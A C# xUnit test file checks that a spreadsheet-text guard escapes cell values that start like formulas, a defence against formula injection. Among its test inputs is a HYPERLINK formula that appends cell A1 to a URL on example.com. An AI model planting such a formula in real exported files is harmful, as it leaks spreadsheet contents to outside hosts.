using TelecomGis.Core.Reporting;

namespace TelecomGis.Core.Tests.Reporting;

public class SpreadsheetTextTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://example.com/?\"&A1)", "'=HYPERLINK(\"http://example.com/?\"&A1)")]
    [InlineData("+1+1", "'+1+1")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "'\r=1")]
    [InlineData("MC-33", "MC-33")]
    [InlineData("Phường Hồng Gai", "Phường Hồng Gai")]
    [InlineData("a=b", "a=b")]
    [InlineData("", "")]
    [InlineData(null, "")]
    public void TextThatStartsLikeAFormulaIsShownAsText_AndAnyOtherIsLeftAsItIs(string? text, string expected) =>
        Assert.Equal(expected, SpreadsheetText.Guard(text));
}
